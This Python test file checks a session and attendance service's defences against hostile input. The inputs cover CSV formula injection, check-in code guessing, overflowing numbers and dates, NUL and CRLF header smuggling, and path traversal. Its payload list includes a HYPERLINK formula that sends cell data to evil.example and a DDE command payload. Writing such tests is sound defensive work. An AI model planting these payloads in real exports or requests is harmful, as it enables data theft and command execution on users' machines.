"""Issue 9, the input side: what a hostile participant or a careless import sends, sent as they would.

CSV injection through names and emails, guessing the check-in code, and inputs that once reached a
5xx (an agenda integer beyond 64 bits, a start whose offset overflows UTC, a chat page past the
seq column, NUL characters PostgreSQL refuses): each is answered `invalid` (or `rate_limited`)
before anything is written, and the session goes on working.
"""

from __future__ import annotations

import csv
import io
import logging
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import text
from sqlalchemy.ext.asyncio import create_async_engine

from core import csvsafe
from core.attendance import CODE_PERIOD_S, code_at
from core.sheet import COLUMNS
from tests.support import Class, Server, iso_in, refused

# ---------------------------------------------------------------- helpers


def session_body(**fields: Any) -> dict[str, Any]:
    return {
        "topic": "Hostile inputs",
        "instructor_email": "teacher@example.org",
        "starts_at": iso_in(10),
        "duration_minutes": 60,
        # Many sessions of one instructor at one time: booked overriding the conflict, as an admin may
        # (tests/test_scheduling.py books without it and sees the refusal).
        "override_reason": "tests book side by side",
        **fields,
    }


async def post_raw(server: Server, path: str, raw: bytes) -> Any:
    headers = {"authorization": f"Bearer {server.admin_token}", "content-type": "application/json"}
    return await server.http.post(path, content=raw, headers=headers)


async def still_serves(server: Server) -> None:
    """The server goes on creating and reading sessions after the hostile request."""
    s = await server.session()
    assert (await server.api("GET", f"/api/sessions/{s['id']}")).status_code == 200


# ---------------------------------------------------------------- 5. CSV injection

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\uff1d1+1",  # a full-width equals sign, which some spreadsheets fold to "="
]


async def test_attendance_csv_neutralises_formulas_in_names_and_emails(server: Server) -> None:
    """Names and emails that start like a formula come out of the CSV as quoted text with a `'`;
    the JSON sheet keeps the real values."""
    s = await server.session()
    people = [{"name": name, "email": f"person{i}@example.org"} for i, name in enumerate(FORMULAS)]
    people += [
        {"name": "\t=1+1", "email": "=1+2@example.org"},  # the tab is trimmed: the name starts with "="
        {"name": "Plain Person", "email": "-rm@example.org"},
        {"name": "Semi;=1+1", "email": "+x@example.org"},
    ]
    r = await server.api("POST", f"/api/sessions/{s['id']}/participants", {"participants": people})
    assert r.status_code == 200, r.text
    sheet = (await server.api("GET", f"/api/sessions/{s['id']}/attendance")).json()["rows"]
    by_email = {row["email"]: row for row in sheet}
    assert by_email["person0@example.org"]["name"] == FORMULAS[0]  # JSON: the real value
    assert by_email["=1+2@example.org"]["name"] == "=1+1"

    raw = (await server.api("GET", f"/api/sessions/{s['id']}/attendance.csv")).text
    table = list(csv.reader(io.StringIO(raw)))
    assert table[0] == list(COLUMNS)
    name_at, email_at = COLUMNS.index("name"), COLUMNS.index("email")
    for line in table[1:]:
        for value in (line[name_at], line[email_at]):
            assert value[:1] not in csvsafe.FORMULA_START, (value, raw)
    cells = {(line[name_at], line[email_at]) for line in table[1:]}
    for i, name in enumerate(FORMULAS):
        assert ("'" + name, f"person{i}@example.org") in cells
    assert ("'=1+1", "'=1+2@example.org") in cells
    assert ("Plain Person", "'-rm@example.org") in cells
    # A `;` splits an unquoted cell where it is the list separator: such a cell is quoted.
    assert '"Semi;=1+1"' in raw and ("Semi;=1+1", "'+x@example.org") in cells
    # Every neutralised cell is also quoted, as OWASP advises.
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"' in raw


def test_csv_cells_are_neutralised_and_numbers_left_alone() -> None:
    """The one helper every CSV goes through: text that starts like a formula, not numbers."""
    assert csvsafe.cell("=1+1") == '"\'=1+1"'
    assert csvsafe.cell("\r=1") == '"\'\r=1"'
    assert csvsafe.cell("a,b") == '"a,b"' and csvsafe.cell('say "hi"') == '"say ""hi"""'
    assert csvsafe.cell(-3) == "-3" and csvsafe.cell(2.5) == "2.5" and csvsafe.cell(None) == ""
    assert csvsafe.table(["a", "b"], [{"a": "@x"}]) == 'a,b\r\n"\'@x",\r\n'


# ---------------------------------------------------------------- 6. guessing the check-in code


async def checkin_secret(server: Server, session_id: str) -> str:
    """The session's code secret, read from the database: only to pick guesses that are surely wrong."""
    engine = create_async_engine(server.settings.database_url)
    try:
        async with engine.connect() as db:
            row = await db.execute(text("SELECT checkin_secret FROM sessions WHERE id = :id"), {"id": session_id})
            return str(row.scalar_one())
    finally:
        await engine.dispose()


def wrong_codes(secret: str, n: int) -> list[str]:
    """n four-digit codes that no window around now accepts."""
    now = datetime.now(UTC)
    taken = {code_at(secret, now + timedelta(seconds=k * CODE_PERIOD_S)) for k in range(-3, 4)}
    return [c for c in (f"{i:04d}" for i in range(10_000)) if c not in taken][:n]


async def test_wrong_checkin_codes_are_limited_per_participant_not_per_socket(
    server: Server, caplog: pytest.LogCaptureFixture
) -> None:
    """A participant guessing from several tabs gets 5 wrong codes, then `rate_limited`, even for the
    right code; one WARNING names them; another participant is not affected."""
    s = await server.session(checkin_code=True)
    people = await server.participants(s["id"], 2)
    staff = await server.connect(server.admin_token, s["id"])
    tabs = [await server.connect(people[0]["token"]) for _ in range(3)]
    other = await server.connect(people[1]["token"])
    guesses = wrong_codes(await checkin_secret(server, s["id"]), 12)

    with caplog.at_level(logging.WARNING, logger="companion.attendance"):
        for i, guess in enumerate(guesses[:5]):
            refused(await tabs[i % 3].call("attendance:checkin", {"code": guess}), "invalid", "code")
        for i, guess in enumerate(guesses[5:]):
            refused(await tabs[i % 3].call("attendance:checkin", {"code": guess}), "rate_limited")
        right = (await staff.call("session:state", {}))["checkin_code"]
        ack = await tabs[0].call("attendance:checkin", {"code": right})
        assert ack["ok"] is False and ack["error"]["code"] == "rate_limited", ack
        assert "retry_at" in ack

    warnings = [r for r in caplog.records if r.name == "companion.attendance" and r.levelno == logging.WARNING]
    assert len(warnings) == 1, [r.getMessage() for r in warnings]
    assert people[0]["id"] in warnings[0].getMessage() and people[0]["name"] in warnings[0].getMessage()

    # The limit is theirs alone: another participant checks in with the code shown.
    right = (await staff.call("session:state", {}))["checkin_code"]
    ack = await other.call("attendance:checkin", {"code": right})
    assert ack["ok"] is True and ack["status"] == "present", ack
    sheet = (await server.api("GET", f"/api/sessions/{s['id']}/attendance")).json()["rows"]
    assert {r["participant_id"]: r["status"] for r in sheet}[people[0]["id"]] == "absent"


@pytest.mark.parametrize("code", ["\u202e123", "١٢٣٤", "\u00e9"])
async def test_a_code_of_other_characters_is_wrong_not_an_error(server: Server, code: str) -> None:
    """compare_digest refuses str with non-ASCII characters: such a code answered `unavailable`."""
    s = await server.session(checkin_code=True)
    person = (await server.participants(s["id"], 1))[0]
    tab = await server.connect(person["token"])
    refused(await tab.call("attendance:checkin", {"code": code}), "invalid", "code")


async def test_a_missing_code_and_a_session_without_codes_are_not_counted(server: Server) -> None:
    """Only a code that is looked at counts: asking without a code, or checking in where no code is
    asked, never locks anyone out."""
    s = await server.session(checkin_code=True)
    person = (await server.participants(s["id"], 1))[0]
    tab = await server.connect(person["token"])
    staff = await server.connect(server.admin_token, s["id"])
    for _ in range(8):
        refused(await tab.call("attendance:checkin", {}), "invalid", "code")
    right = (await staff.call("session:state", {}))["checkin_code"]
    assert (await tab.call("attendance:checkin", {"code": right}))["ok"] is True


# ---------------------------------------------------------------- 8. agenda, starts_at and other bounds


@pytest.mark.parametrize(
    "agenda",
    [
        [{"title": "Overflow", "minutes": 2**64}],
        [{"title": "Overflow", "minutes": -(2**63) - 1}],
        [{"title": "Unsafe in JavaScript", "minutes": 2**53}],
        [2**64],
        [{"nested": {"deeper": [1, 2, 3]}}],
        [["a list in a list"]],
        ["x"] * 101,
        [{f"k{i}": i for i in range(11)}],
        [{"title": "a\u0000b"}],
        "before\u0000after",
    ],
    ids=[
        "int-beyond-64-bits",
        "int-below-64-bits",
        "int-beyond-2^53",
        "bare-int",
        "nested-object",
        "nested-list",
        "too-many-items",
        "too-many-fields",
        "nul-in-field",
        "nul-in-text",
    ],
)
async def test_an_agenda_beyond_its_bounds_is_invalid_and_nothing_is_committed(server: Server, agenda: Any) -> None:
    """An agenda the server could not serialise again, or of unbounded shape, answers 400 invalid."""
    r = await server.api("POST", "/api/sessions", session_body(topic="Bricked?", agenda=agenda))
    refused(r, "invalid", "agenda")
    await still_serves(server)


@pytest.mark.parametrize("literal", [b"NaN", b"Infinity", b"-Infinity", b"1e309"])
async def test_an_agenda_with_a_non_finite_number_is_invalid(server: Server, literal: bytes) -> None:
    """The JSON parser lets NaN and Infinity through (and 1e309 overflows to infinity): still 400."""
    raw = (
        b'{"topic": "t", "instructor_email": "teacher@example.org", "starts_at": "2030-03-01T09:00:00Z",'
        b' "duration_minutes": 60, "agenda": [{"title": "x", "minutes": ' + literal + b"}]}"
    )
    refused(await post_raw(server, "/api/sessions", raw), "invalid", "agenda")
    await still_serves(server)


async def test_agendas_of_the_shapes_the_pages_show_are_kept(server: Server) -> None:
    """Text, a list of texts, and flat {time, title, minutes} objects with floats and flags: kept as sent."""
    agenda = ["Welcome", {"time": "10:00", "title": "Clocks", "minutes": 20, "optional": False, "weight": 0.5}]
    s = await server.session(agenda=agenda)
    assert (await server.api("GET", f"/api/sessions/{s['id']}")).json()["agenda"] == agenda
    s = await server.session(agenda="1. Welcome\n\t2. Questions")
    assert s["agenda"] == "1. Welcome\n\t2. Questions"


@pytest.mark.parametrize(
    "starts_at",
    [
        "0001-01-01T00:00:00+05:00",  # overflows below datetime.min in UTC
        "9999-12-31T23:59:59-05:00",  # overflows above datetime.max in UTC
        "9999-12-31T00:00:00Z",
        "1999-12-31T23:59:59Z",
        "2200-01-01T00:00:00Z",
        "2030-03-01T09:00:00." + "1" * 100 + "Z",
    ],
)
async def test_a_start_outside_the_sane_range_is_invalid(server: Server, starts_at: str) -> None:
    """A start whose offset overflows UTC answered 503; it, and any start outside 2000..2200, is 400."""
    refused(await server.api("POST", "/api/sessions", session_body(starts_at=starts_at)), "invalid", "starts_at")
    await still_serves(server)


async def test_the_ends_of_the_start_range_are_accepted(server: Server) -> None:
    """2000-01-01 and the last moment before 2200 (in UTC, whatever the offset) are fine."""
    for starts_at in ("2000-01-01T00:00:00Z", "2199-12-31T23:59:59Z", "2200-01-01T04:00:00+05:00"):
        r = await server.api("POST", "/api/sessions", session_body(starts_at=starts_at))
        assert r.status_code == 201, (starts_at, r.text)


@pytest.mark.parametrize(
    ("path", "body", "field"),
    [
        ("/api/sessions", session_body(topic="Clocks\u0000"), "topic"),
        ("/api/sessions", session_body(topic="Two\nlines"), "topic"),
        ("/api/sessions", session_body(instructor_email="teacher\u0000@example.org"), "instructor_email"),
        ("/api/sessions", session_body(platform="Zoom\u0000"), "platform"),
        ("/api/sessions", session_body(join_url="https://z.example/\u0000"), "join_url"),
        ("/api/tokens", {"role": "support", "name": "Sam\u0000"}, "name"),
        ("/api/tokens", {"role": "support", "name": "Sam\r\nSet-Cookie: x"}, "name"),
    ],
)
async def test_nul_and_control_characters_are_invalid(server: Server, path: str, body: Any, field: str) -> None:
    """PostgreSQL refuses NUL in text (a 503 there, silently kept on SQLite): 400 invalid on both."""
    refused(await server.api("POST", path, body), "invalid", field)
    await still_serves(server)


async def test_a_participant_name_with_nul_is_invalid(server: Server) -> None:
    """The roster is bounded like every other body: nothing is added."""
    s = await server.session()
    body = {"participants": [{"name": "Ok Person", "email": "ok@example.org"}, {"name": "A\u0000", "email": "a@x.org"}]}
    refused(await server.api("POST", f"/api/sessions/{s['id']}/participants", body), "invalid", "name")
    assert (await server.api("GET", f"/api/sessions/{s['id']}/attendance")).json()["rows"] == []


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/login/finish", {"challenge_id": "a\u0000b", "credential": {}}),
        ("/api/enrol/begin", {"token": "inv_\u0000"}),
        ("/api/enrol/finish", {"token": "inv_x_y", "challenge_id": "\u0000", "credential": {}}),
    ],
)
async def test_sign_in_bodies_with_nul_are_invalid(server: Server, path: str, body: Any) -> None:
    """A NUL in a challenge id or invitation token reached PostgreSQL: 503 there; 400 on both now."""
    refused(await server.http.post(path, json=body), "invalid")


@pytest.mark.parametrize("email", ["a%00b@x.org", "%0A@x.org", "x" * 400 + "@x.org"])
async def test_a_staff_email_in_the_path_that_nobody_has_is_not_found(server: Server, email: str) -> None:
    for action in ("disable", "enable"):
        refused(await server.api("POST", f"/api/staff/{email}/{action}"), "not_found")


@pytest.mark.parametrize("session_id", ["%00", "a%00b", "x" * 300, "..%2F..%2Fetc"])
async def test_a_session_id_the_server_never_made_is_not_found(server: Server, session_id: str) -> None:
    """An id with a NUL, too long, or of other characters names nothing: 404, never the database's error."""
    for method, suffix in (("GET", ""), ("GET", "/attendance.csv"), ("POST", "/close")):
        r = await server.api(method, f"/api/sessions/{session_id}{suffix}")
        refused(r, "not_found")
    refused(await server.api("DELETE", "/api/tokens/%00"), "not_found")


async def test_chat_history_past_the_seq_column_is_invalid(klass: Class) -> None:
    """after_seq at or beyond 2^63 (or past the INTEGER column, 2^31) answered `unavailable`: `invalid`."""
    p = klass.participants[0]
    for after in (2**63, 2**64 - 1, 2**31):
        refused(await p.call("chat:history", {"after_seq": after}), "invalid", "after_seq")
    ack = await p.call("chat:history", {"after_seq": 2**31 - 1})
    assert ack["ok"] is True and ack["messages"] == [], ack


@pytest.mark.parametrize(
    ("event", "data", "field"),
    [
        ("chat:send", {"client_id": "client-0001", "text": "hello\u0000world"}, "text"),
        ("help:open", {"category": "audio\u0000", "text": "no sound"}, "category"),
        ("help:open", {"category": "audio", "text": "no\u0000sound"}, "text"),
        ("clock:sync", {"t0": 2**64 - 1}, "t0"),
        ("clock:sync", {"t0": 1e308}, "t0"),
        ("clock:sync", {"t0": -1}, "t0"),
        ("attendance:checkin", {"code": "12\u000034"}, "code"),
        ("ping:answer", {"ping_id": "a\u0000b", "answer": 1}, "ping_id"),
        ("ping:answer", {"ping_id": "abc", "answer": {"deep": [1]}}, "answer"),
    ],
)
async def test_socket_payloads_beyond_their_bounds_are_invalid(
    klass: Class, event: str, data: dict[str, Any], field: str
) -> None:
    """NUL characters (a failed write on PostgreSQL), numbers beyond a clock, objects where a value goes."""
    refused(await klass.participants[0].call(event, data), "invalid", field)
    ack = await klass.participants[0].call("chat:send", {"client_id": "client-after", "text": "still here"})
    assert ack["ok"] is True, ack


async def test_staff_payloads_beyond_their_bounds_are_invalid(klass: Class) -> None:
    """Ping questions, options and platform messages are one-line or plain text, without NUL."""
    i = klass.instructor
    refused(await i.call("ping:launch", {"kind": "text", "question": "why\u0000"}), "invalid", "question")
    refused(await i.call("ping:launch", {"kind": "poll", "question": "q", "options": ["a", "b\u0000"]}), "invalid")
    refused(await i.call("platform:status", {"status": "ok", "message": "fine\u0000"}), "invalid", "message")
    refused(await i.call("session:delay", {"minutes": 5, "reason": "late\u0000"}), "invalid", "reason")
    refused(await i.call("attendance:mark", {"participant_id": "p\u0000", "status": "present"}), "invalid")


async def test_delays_add_up_to_at_most_a_week(klass: Class) -> None:
    """Delays of a day each cannot push the expected start on without end (past datetime's range)."""
    for _ in range(7):
        ack = await klass.instructor.call("session:delay", {"minutes": 24 * 60})
        assert ack["ok"] is True, ack
    refused(await klass.instructor.call("session:delay", {"minutes": 1}), "invalid", "minutes")
    state = await klass.instructor.call("session:state", {})
    assert state["session"]["delay_minutes"] == 7 * 24 * 60


async def test_the_bounds_show_in_the_openapi_document(server: Server) -> None:
    """The OpenAPI document carries every bound the server checks on a session body."""
    doc = (await server.http.get("/api/openapi.json")).json()
    props = doc["components"]["schemas"]["SessionCreate"]["properties"]
    text_agenda, list_agenda = props["agenda"]["anyOf"][0], props["agenda"]["anyOf"][1]
    assert text_agenda["maxLength"] == 1 << 20 and "pattern" in text_agenda
    assert list_agenda["maxItems"] == 100
    entry = list_agenda["items"]["anyOf"][1]
    assert entry["maxProperties"] == 10 and entry["propertyNames"]["maxLength"] == 50
    ints = [s for s in entry["additionalProperties"]["anyOf"] if s.get("type") == "integer"]
    assert ints == [{"type": "integer", "minimum": -(2**53 - 1), "maximum": 2**53 - 1}]
    assert props["starts_at"]["maxLength"] == 64
    assert "pattern" in props["topic"] and "pattern" in doc["components"]["schemas"]["Person"]["properties"]["name"]
